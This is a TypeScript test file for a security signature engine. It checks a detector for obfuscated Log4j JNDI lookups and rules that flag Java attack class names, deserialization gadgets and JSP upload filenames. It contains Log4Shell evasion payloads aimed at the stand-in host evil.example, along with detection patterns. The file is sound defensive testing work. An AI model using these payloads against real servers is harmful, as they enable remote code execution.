// biome-ignore-all lint/suspicious/noTemplateCurlyInString: Log4j lookup syntax is what these values are about
import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { compileSignatures, loadSignatureRules } from '../signatures.js';
import { BUILTIN_DETECTORS, SHIPPED_SIGNATURES_DIR } from './index.js';
import { DETECTORS, detectLog4jLookupEvasion } from './java.js';

const at = { location: 'json:$.foo' };

describe('detectLog4jLookupEvasion', () => {
  it('exports its detector by rule name', () => {
    assert.deepEqual(Object.keys(DETECTORS), ['log4j-lookup-evasion']);
  });

  for (const attack of [
    '$&lbrace;jndi:ldap://evil.example/a}',
    '$&LBRACE;jndi:ldap://evil.example/a}',
    '$&lbracejndi:ldap://evil.example/a}',
    '&dollar;&lcub;jndi:rmi://evil.example/a&rcub;',
    '$&#00000000000000000123;jndi:ldap://evil.example/w}',
    '&#x0024;&#x007b;jndi:dns://evil.example}',
  ]) {
    it(`reports the character-reference form ${JSON.stringify(attack)}`, () => {
      assert.equal(detectLog4jLookupEvasion(attack, at)?.detail, 'jndi-lookup-character-references');
    });
  }

  for (const attack of [
    '$${env:x:-${env:y:-$}{jndi:ldap://evil.example/w}}}',
    '${::-${::-$}{jndi:ldap://evil.example}}',
    '${lower:${upper:j}}ndi',
    '$&lbrace;env:NOPE:-$&lbrace;jndi}}',
  ]) {
    it(`reports the nested lookup ${JSON.stringify(attack)}`, () => {
      assert.equal(detectLog4jLookupEvasion(attack, at)?.detail, 'nested-log4j-lookup');
    });
  }

  for (const benign of [
    '${HOME:-/root}',
    '${FOO:-${BAR}}',
    '${env:-${HOME}}',
    '${db.url:${DB_URL}}',
    '${user.name}',
    'costs $5 &amp; more {see below}',
    'Tom &amp; Jerry',
    '${jndi:ldap://plain.example}',
    '&lbrace; and &rbrace; are braces',
  ]) {
    it(`passes ${JSON.stringify(benign)}`, () => {
      assert.equal(detectLog4jLookupEvasion(benign, at), undefined);
    });
  }

  it('is linear on pathological input', { timeout: 5000 }, () => {
    for (const unit of ['${env:', '&lbrace;', '${', '&#0000']) {
      assert.doesNotThrow(() => detectLog4jLookupEvasion(unit.repeat(10_000), at));
    }
  });
});

describe('shipped Java rules (rules/signatures/java.yaml)', async () => {
  const rules = (await loadSignatureRules([SHIPPED_SIGNATURES_DIR], BUILTIN_DETECTORS)).filter(
    (rule) => rule.category === 'java' || rule.category === 'jndi',
  );
  const set = compileSignatures(rules, BUILTIN_DETECTORS);
  const matched = (location: string, value: string): string[] => set.inspect([{ location, value }]).matches.map((m) => m.ruleId);

  for (const [location, value, rule] of [
    ['header:x-anything', 'java.lang.Runtime', 'java/jdk-class-name-in-header'],
    ['header:x-anything', 'java.ProcessBuilder', 'java/jdk-class-name-in-header'],
    ['form:test', 'com.opensymphony.xwork2', 'java/attack-package-name'],
    ['cookie-name:org.apache.commons', 'org.apache.commons', 'java/attack-package-name'],
    ['xml:/xml/element/@a', 'org.apache.commons.collections.functors.ChainedTransformer', 'java/attack-package-name'],
    ['json:$.x', "#context['com.opensymphony.xwork2.ActionContext.container']", 'java/attack-package-name'],
    ['header:x-anything', 'freemarker.template.utility.Execute', 'java/attack-package-name'],
    ['json:$.x', '#ctx=OgnlContext', 'java/ognl-class'],
    ['form:test', 'ProcessBuilder.evil.whileclosure', 'java/gadget-class'],
    ['json-key:$.x', 'ProcessBuilder.prototypeserializationfactory', 'java/gadget-class'],
    ['filename:file', 'shell. jspx', 'java/jsp-upload'],
    ['header:x-filename', 'a.jsp..', 'java/jsp-upload'],
    ['header:x_filename', 'shell.jsp ', 'java/jsp-upload'],
    ['header:x-file-name', 'foo.JSPX', 'java/jsp-upload'],
  ] as const) {
    it(`${rule} reports ${JSON.stringify(value)} in ${location}`, () => {
      assert.ok(matched(location, value).includes(rule), `${matched(location, value).join(', ')}`);
    });
  }

  for (const [location, value] of [
    ['header:referer', 'https://mvnrepository.com/artifact/org.apache.commons/commons-lang3'],
    ['path', '/artifact/org.apache.commons/commons-lang3'],
    ['form:q', 'logging.level.org.apache.commons.httpclient'],
    ['json:$.note', 'Apache Commons is a great project'],
    ['header:accept', 'application/java-archive, application/x-java-serialized-object'],
    ['filename:file', 'notes.jsp.txt'],
    ['filename:file', 'report.json'],
    ['header:x-filename', 'jsp-guide.pdf'],
    ['json:$.title', 'The while closure in Kotlin'],
  ] as const) {
    it(`passes ${JSON.stringify(value)} in ${location}`, () => {
      assert.deepEqual(matched(location, value), []);
    });
  }
});
